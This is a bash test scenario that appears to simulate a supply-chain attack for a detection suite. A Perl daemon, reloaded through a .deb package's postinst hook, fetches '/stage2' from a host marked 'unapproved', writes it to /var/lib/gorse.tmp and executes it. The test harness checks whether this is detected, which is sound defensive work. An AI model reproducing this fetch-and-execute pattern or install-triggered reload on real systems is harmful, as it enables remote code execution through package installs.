# SPDX-License-Identifier: Apache-2.0
# A library is replaced under a daemon that goes on running, and loads it again.
# shellcheck shell=bash
prepare_library() {
	local library

	publish gorse
	mkdir -p /usr/lib/gorse
	library=$(perl -MConfig -e 'print "$Config{archlibexp}/auto/Fcntl/Fcntl.so"')
	[[ -e $library ]] || library=$(find /usr/lib -name Fcntl.so | head -1)
	cp "$library" /usr/lib/gorse/gorse.so
	cat >/usr/lib/gorse/gorsed <<END
#!/usr/bin/perl
use DynaLoader;
use IO::Socket::INET;
my \$library;
\$SIG{HUP} = sub {
	my \$old = \$library;
	DynaLoader::dl_unload_file(\$old) if \$old;
	\$library = DynaLoader::dl_load_file('/usr/lib/gorse/gorse.so', 0) or die;
	# What the new library does; the old one did nothing.
	return unless \$old;
	my \$to = IO::Socket::INET->new(PeerAddr => '$(unapproved gorse)', PeerPort => 80) or die;
	print \$to "GET /stage2 HTTP/1.0\r\nHost: $(unapproved gorse)\r\n\r\n";
	local \$/;
	my \$answer = <\$to>;
	\$answer =~ s/.*?\r\n\r\n//s;
	open my \$file, '>', '/var/lib/gorse.tmp' or die;
	print \$file \$answer;
	close \$file;
	chmod 0755, '/var/lib/gorse.tmp';
	system '/var/lib/gorse.tmp';
};
kill 'HUP', \$\$;
sleep 1 while 1;
END
	chmod 755 /usr/lib/gorse/gorsed
	mkdir -p /tmp/gorse/DEBIAN /tmp/gorse/usr/lib/gorse
	cp "$library" /tmp/gorse/usr/lib/gorse/gorse.so
	printf 'Package: gorse\nVersion: 2\nArchitecture: all\nMaintainer: %s\nDescription: plays a part\n' \
		'vendor <info@vendor.example>' >/tmp/gorse/DEBIAN/control
	printf '#!/bin/sh\nkill -HUP $(cat /run/gorsed.pid)\n' >/tmp/gorse/DEBIAN/postinst
	chmod 755 /tmp/gorse/DEBIAN/postinst
	dpkg-deb -Znone --root-owner-group --build /tmp/gorse /tmp/gorse.deb >/dev/null
}

play_library() {
	/usr/lib/gorse/gorsed >/dev/null 2>&1 </dev/null &
	echo $! >/run/gorsed.pid
	await gorse.so /proc/$!/maps
	dpkg -i /tmp/gorse.deb >/dev/null
	expect library gorse
}
